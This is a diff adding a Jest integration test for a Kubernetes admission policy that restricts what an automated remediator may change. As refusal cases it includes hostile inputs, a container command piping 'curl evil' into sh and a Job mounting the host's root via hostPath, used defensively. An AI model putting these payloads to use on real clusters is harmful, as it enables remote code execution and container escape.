@@ -1,0 +1,244 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import {
+  AppsV1Api,
+  AutoscalingV2Api,
+  BatchV1Api,
+  PatchStrategy,
+  setHeaderOptions,
+  type V1Job,
+} from '@kubernetes/client-node';
+
+import { admin, applyShippedRbac, applyYaml, createNamespace, kubeConfigFor, until } from '../testenv/cluster.ts';
+
+/**
+ * The admission policy shipped in infra/kubernetes/remediator-admission.yaml, on the real API
+ * server: as kubemend's remediator identity, what its fixes write is admitted, and anything else
+ * (an image, a command, a ServiceAccount, a hostPath, a host namespace, a write in kube-system, an
+ * HPA's target) is refused by the API server itself, whatever RBAC allows. The policy is removed
+ * afterwards: the other suites run without it.
+ */
+const manifest = readFileSync(join(import.meta.dirname, '../../infra/kubernetes/remediator-admission.yaml'), 'utf8');
+const remediator = kubeConfigFor('remediator');
+const apps = remediator.makeApiClient(AppsV1Api);
+const batch = remediator.makeApiClient(BatchV1Api);
+const autoscaling = remediator.makeApiClient(AutoscalingV2Api);
+const merge = setHeaderOptions('Content-Type', PatchStrategy.StrategicMergePatch);
+const json = setHeaderOptions('Content-Type', PatchStrategy.JsonPatch);
+let namespace: string;
+let rollbacks: string;
+
+async function refusal(write: Promise<unknown>): Promise<string> {
+  try {
+    await write;
+  } catch (error) {
+    return String((error as { body?: unknown }).body ?? error);
+  }
+  throw new Error('expected the API server to refuse the write');
+}
+
+async function deploymentIn(ns: string, name: string): Promise<void> {
+  await admin().apps.createNamespacedDeployment({
+    namespace: ns,
+    body: {
+      metadata: { name },
+      spec: {
+        replicas: 1,
+        selector: { matchLabels: { app: name } },
+        template: {
+          metadata: { labels: { app: name } },
+          spec: {
+            containers: [
+              { name: 'app', image: 'registry.example/app:1.0', resources: { limits: { memory: '64Mi', cpu: '1' } } },
+            ],
+          },
+        },
+      },
+    },
+  });
+}
+
+beforeAll(async () => {
+  await applyShippedRbac();
+  await applyYaml(manifest);
+  namespace = await createNamespace('admission');
+  rollbacks = await createNamespace('admission-rollback');
+  await admin().core.patchNamespace(
+    { name: rollbacks, body: { metadata: { labels: { 'kubemend.io/allow-rollback': 'true' } } } },
+    merge,
+  );
+  await deploymentIn(namespace, 'web');
+  await deploymentIn(rollbacks, 'web');
+  await admin().objects.create({
+    apiVersion: 'autoscaling/v2',
+    kind: 'HorizontalPodAutoscaler',
+    metadata: { name: 'web', namespace },
+    spec: {
+      scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web' },
+      minReplicas: 1,
+      maxReplicas: 3,
+    },
+  } as never);
+  // The policy takes effect once the API server has compiled it.
+  await until(
+    'the policy to refuse an image change',
+    () =>
+      refusal(
+        apps.patchNamespacedDeployment({ namespace, name: 'web', dryRun: 'All', body: image('x:2') }, merge),
+      ).catch((e: unknown) => String(e)),
+    (answer) => answer.includes('kubemend-remediator-writes'),
+    30_000,
+  );
+}, 120_000);
+
+afterAll(async () => {
+  await admin().objects.delete({
+    apiVersion: 'admissionregistration.k8s.io/v1',
+    kind: 'ValidatingAdmissionPolicyBinding',
+    metadata: { name: 'kubemend-remediator-writes' },
+  });
+  await admin().objects.delete({
+    apiVersion: 'admissionregistration.k8s.io/v1',
+    kind: 'ValidatingAdmissionPolicy',
+    metadata: { name: 'kubemend-remediator-writes' },
+  });
+});
+
+const image = (value: string) => ({ spec: { template: { spec: { containers: [{ name: 'app', image: value }] } } } });
+
+describe('the remediator admission policy', () => {
+  it('admits what the fixes write: a restart, more memory, a scale', async () => {
+    await apps.patchNamespacedDeployment(
+      {
+        namespace,
+        name: 'web',
+        body: {
+          spec: {
+            template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-12-01T00:00:00Z' } } },
+          },
+        },
+      },
+      merge,
+    );
+    await apps.patchNamespacedDeployment(
+      {
+        namespace,
+        name: 'web',
+        body: [{ op: 'replace', path: '/spec/template/spec/containers/0/resources/limits/memory', value: '96Mi' }],
+      },
+      json,
+    );
+    await apps.patchNamespacedDeployment({ namespace, name: 'web', body: { spec: { replicas: 2 } } }, merge);
+    await autoscaling.patchNamespacedHorizontalPodAutoscaler(
+      { namespace, name: 'web', body: { spec: { maxReplicas: 5 } } },
+      merge,
+    );
+    await batch.createNamespacedJob({
+      namespace,
+      body: {
+        metadata: { name: 'retry' },
+        spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'x' }] } } },
+      },
+    });
+
+    const deployment = await admin().apps.readNamespacedDeployment({ namespace, name: 'web' });
+    expect(deployment.spec?.template.spec?.containers[0]?.resources?.limits).toEqual({ memory: '96Mi', cpu: '1' });
+    expect(deployment.spec?.replicas).toBe(2);
+  });
+
+  it.each([
+    ['an image', image('registry.example/app:evil')],
+    [
+      'a command',
+      { spec: { template: { spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] } } } },
+    ],
+    ['the ServiceAccount', { spec: { template: { spec: { serviceAccountName: 'admin' } } } }],
+    ['CPU', { spec: { template: { spec: { containers: [{ name: 'app', resources: { limits: { cpu: '8' } } }] } } } }],
+    ['another annotation', { spec: { template: { metadata: { annotations: { 'sidecar.example/inject': 'true' } } } } }],
+  ])('refuses a change of %s to a workload', async (_what, body) => {
+    expect(await refusal(apps.patchNamespacedDeployment({ namespace, name: 'web', body }, merge))).toContain(
+      "kubemend's remediator may change a workload's pod template only by its restart annotation and its containers' memory",
+    );
+  });
+
+  it('refuses a host namespace or a hostPath volume, even where rollbacks are allowed', async () => {
+    expect(
+      await refusal(
+        apps.patchNamespacedDeployment(
+          { namespace: rollbacks, name: 'web', body: { spec: { template: { spec: { hostNetwork: true } } } } },
+          merge,
+        ),
+      ),
+    ).toContain('may not add a privileged container, a hostPath volume or a host namespace');
+    const hostPath: V1Job = {
+      metadata: { name: 'escape' },
+      spec: {
+        template: {
+          spec: {
+            restartPolicy: 'Never',
+            volumes: [{ name: 'root', hostPath: { path: '/' } }],
+            containers: [{ name: 'a', image: 'x', volumeMounts: [{ name: 'root', mountPath: '/host' }] }],
+          },
+        },
+      },
+    };
+    expect(await refusal(batch.createNamespacedJob({ namespace, body: hostPath }))).toContain('hostPath');
+  });
+
+  it('admits a rollback only in a namespace an admin labelled for it', async () => {
+    await apps.patchNamespacedDeployment(
+      { namespace: rollbacks, name: 'web', body: image('registry.example/app:0.9') },
+      merge,
+    );
+
+    const rolledBack = await admin().apps.readNamespacedDeployment({ namespace: rollbacks, name: 'web' });
+    expect(rolledBack.spec?.template.spec?.containers[0]?.image).toBe('registry.example/app:0.9');
+  });
+
+  it('refuses any write in the control plane’s namespaces, and an HPA pointed elsewhere', async () => {
+    expect(
+      await refusal(
+        apps.patchNamespacedDeployment(
+          { namespace: 'kube-system', name: 'coredns', body: { spec: { replicas: 3 } } },
+          merge,
+        ),
+      ),
+    ).toMatch(/may not write in the control plane's namespaces|not found/);
+    await admin().apps.createNamespacedDeployment({
+      namespace: 'kube-system',
+      body: {
+        metadata: { name: `kubemend-admission-${namespace}` },
+        spec: {
+          selector: { matchLabels: { a: 'b' } },
+          template: { metadata: { labels: { a: 'b' } }, spec: { containers: [{ name: 'c', image: 'x' }] } },
+        },
+      },
+    });
+    expect(
+      await refusal(
+        apps.patchNamespacedDeployment(
+          { namespace: 'kube-system', name: `kubemend-admission-${namespace}`, body: { spec: { replicas: 3 } } },
+          merge,
+        ),
+      ),
+    ).toContain("may not write in the control plane's namespaces");
+    await admin().apps.deleteNamespacedDeployment({
+      namespace: 'kube-system',
+      name: `kubemend-admission-${namespace}`,
+    });
+    expect(
+      await refusal(
+        autoscaling.patchNamespacedHorizontalPodAutoscaler(
+          {
+            namespace,
+            name: 'web',
+            body: { spec: { scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'other' } } },
+          },
+          merge,
+        ),
+      ),
+    ).toContain("may change an HPA's replica bounds only");
+  });
+});
